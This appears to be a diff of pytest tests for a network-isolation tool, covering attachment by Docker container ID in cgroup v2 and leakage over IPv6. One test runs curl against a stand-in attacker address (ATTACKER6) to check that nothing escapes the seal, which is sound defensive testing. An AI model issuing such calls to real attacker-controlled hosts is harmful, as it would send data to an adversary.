@@ -324,3 +324,34 @@ def test_the_end_of_a_job_lets_go_of_the_namespace(sealable):
     while len(list(Path(f"/proc/{served.process.pid}/fd").iterdir())) > before - 12:
         assert time.monotonic() < deadline, "descriptors are left"
         time.sleep(0.05)
+
+
+def test_the_container_of_an_id(sealable, nonce):
+    """A process in a control group as Docker calls them, in the hierarchy of processes' own (cgroups(7), v2)."""
+    container = f"{nonce[1:]:0<64}"
+    tree = next(line.split()[1] for line in Path("/proc/mounts").read_text().splitlines() if line.split()[2] == "cgroup2")
+    group = Path(tree) / f"docker-{container}.scope"
+    group.mkdir()
+    process = start_process_in(sealable)
+    try:
+        wait_until(lambda: Path(f"/proc/{process.pid}/ns/net").stat().st_ino == Path(sealable.path).stat().st_ino, lambda: "not inside yet")
+        (group / "cgroup.procs").write_text(str(process.pid))
+        made = attach(sealable, "--container", container[:12])
+        assert made["sources"] == [f"container:{container[:12]}"]
+        assert f"/{nonce}-in" in sealable.client(f"curl -sS -m 10 --cacert $CA https://echo.example/{nonce}-in").out
+    finally:
+        kill(process)
+        wait_until(lambda: (group / "cgroup.procs").read_text() == "", lambda: "processes are left")
+        group.rmdir()
+
+
+def test_without_ipv6(sealable, nonce):
+    """As in a container of an engine that has it switched off."""
+    for part in ("all", "default"):
+        sealable.root("sysctl", "-qw", f"net.ipv6.conf.{part}.disable_ipv6=1")
+    attach(sealable)
+    left(sealable)
+    assert f"/{nonce}" in sealable.client(f"curl -sS -m 10 --cacert $CA https://echo.example/{nonce}").out
+    sealable.root("sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=0")
+    done = sealable.client(f"curl -gsS -m 5 http://[{names.ATTACKER6}]/{nonce}-no")
+    assert sealable.world.traces(f"{nonce}-no") == [] and left(sealable) == [], done
